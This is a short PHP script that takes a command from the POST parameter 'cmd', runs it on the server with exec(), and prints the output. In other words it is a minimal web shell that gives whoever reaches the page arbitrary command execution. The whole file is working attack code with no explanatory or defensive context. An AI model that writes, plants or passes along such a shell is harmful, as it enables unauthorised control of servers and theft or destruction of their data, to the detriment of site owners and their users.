<?php
function run_it($c)
{
    $out = array();
    exec($c . ' 2>&1', $out);
    return implode("\n", $out);
}
if (isset($_POST['cmd'])) {
    echo htmlspecialchars(run_it($_POST['cmd']));
}
